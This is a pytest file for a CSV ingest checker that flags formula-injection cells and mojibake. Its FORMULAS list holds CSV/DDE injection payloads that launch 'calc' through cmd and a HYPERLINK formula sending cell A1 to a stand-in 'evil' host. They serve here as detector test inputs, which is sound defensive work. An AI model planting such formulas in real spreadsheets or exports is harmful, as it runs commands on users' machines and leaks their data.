from __future__ import annotations

import pytest

from leadline.ingest.read import formula_cells

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "-SUM(A1:A9)",
    "+IMPORTXML(A1)",
    "=-1",
    "\t=1+1",
    "=A1",
    "==1+1",
]
HARMLESS = [
    "-5",
    "-5.5%",
    "+49 30 1234567",
    "+1 (555) 010-9999",
    "-",
    "--",
    " --",
    "@acme",
    "a@b.c",
    "+running +shoes",
    "-free",
    "= ",
    "=)",
    "1=1",
    "- (none)",
    "-10 - (minus)",
    "(not set)",
    "x =1+1",
    '="00123"',
    "+",
    "@acme_brand (DE)",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_is_an_error(tables, cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    [table] = tables(f"Campaign,Clicks\nx,1\n{quoted},2\n")
    [note] = table.notes
    assert (note.severity, note.rule, note.line, note.column) == ("error", "formula-cell", 3, "Campaign")
    assert note.value == cell


@pytest.mark.parametrize("cell", HARMLESS)
def test_harmless_cell_is_none(con, tables, cell):
    quoted = '"' + cell.replace('"', '""') + '"'
    [table] = tables(f"Campaign,Clicks\nx,1\n{quoted},2\n")
    assert not table.notes
    assert formula_cells(con, table) == []


def test_formula_unquoted_in_every_delimiter_and_place(tables):
    for delimiter in ",;\t|":
        for row in (["=1+1", "x", "1"], ["x", "=1+1", "1"], ["x", "1", "@SUM(A1)"], ["x", "-SUM(A1)", "1"]):
            [table] = tables(f"a{delimiter}b{delimiter}c\n{delimiter.join(row)}\n")
            assert [note.rule for note in table.notes] == ["formula-cell"], (delimiter, row)


def test_formula_deep_in_a_long_cell(tables):
    [table] = tables("a,b\n" + "x,1\n" * 9000 + '"-' + "1-" * 400 + "cmd|' /C calc'!A0\",2\n")
    assert [note.line for note in table.notes] == [9002]


def test_many_formulas_are_counted(tables):
    [table] = tables("Campaign,Clicks\n" + "=1+1,2\n" * 50)
    assert (len(table.notes), sum(note.count for note in table.notes)) == (20, 50)


@pytest.mark.parametrize("text", ["München", "Café", "naïve – dash", "it’s", "Ünal", "Çağrı", "à"])
def test_mojibake_is_a_warning(tables, text):
    twisted = text.encode("utf-8").decode("cp1252", "ignore")
    [table] = tables(f"Campaign,Clicks\nx,1\n{twisted},2\n")
    assert [(note.severity, note.rule, note.line) for note in table.notes] == [("warning", "mojibake", 3)]


@pytest.mark.parametrize("text", ["München", "SÃO PAULO", "MÃE", "âme", "Â", "ação", "Thổ Nhĩ Kỳ"])
def test_foreign_letters_are_no_mojibake(tables, text):
    [table] = tables(f"Campaign,Clicks\nx,1\n{text},2\n")
    assert not table.notes
